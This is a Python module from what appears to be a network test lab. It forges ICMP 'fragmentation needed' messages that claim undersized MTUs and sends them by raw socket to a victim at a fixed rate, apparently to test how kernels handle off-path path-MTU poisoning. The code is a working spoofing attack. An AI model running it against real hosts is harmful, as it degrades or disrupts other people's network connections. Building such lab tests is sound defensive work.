"""`python -m shore.lab.forge VICTIM REMOTE PORT RATE`: forged ICMP at a rate, until killed.

Each message tells VICTIM that a datagram of its own, from PORT to the same PORT of REMOTE, was too large for
the way (RFC 792, "fragmentation needed", with the MTU of RFC 1191). The MTUs named are less than any path's
true one, and the quoted datagram is one that a kernel finds a socket for: it is the most that a stranger can
forge who saw no packet.
"""

import contextlib
import itertools
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Iterator

from shore.lab.frames import checksum
from shore.lab.net import Host

MTUS = (68, 576, 1280)
QUOTED_LENGTH = 1480
DONT_FRAGMENT = 0x4000


@contextlib.contextmanager
def forging(host: Host, victim: str, remote: str, port: int, rate: float = 100.0) -> Iterator[None]:
    """Forge from a host, while the block runs."""
    words = ("-m", "shore.lab.forge", victim, remote, str(port), str(rate))
    with subprocess.Popen(host.inside(sys.executable, *words), stdout=subprocess.PIPE) as forger:
        assert forger.stdout is not None
        forger.stdout.readline()
        try:
            yield
        finally:
            forger.kill()


def forged(victim: str, remote: str, port: int, mtu: int) -> bytes:
    """The ICMP message that quotes the beginning of a datagram from `victim`."""
    quoted = struct.pack("!BBHHHBBH", 0x45, 0, QUOTED_LENGTH, 1, DONT_FRAGMENT, 64, socket.IPPROTO_UDP, 0)
    quoted += socket.inet_aton(victim) + socket.inet_aton(remote)
    quoted += struct.pack("!HHHH", port, port, QUOTED_LENGTH - 20, 0)
    message = struct.pack("!BBHHH", 3, 4, 0, 0, mtu) + quoted
    return message[:2] + checksum(message).to_bytes(2, "big") + message[4:]


def main() -> None:
    """Send for ever."""
    victim, remote, port, rate = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    messages = itertools.cycle([forged(victim, remote, port, mtu) for mtu in MTUS])
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    print(flush=True)
    for message in messages:
        raw.sendto(message, (victim, 0))
        time.sleep(1 / rate)


if __name__ == "__main__":
    main()
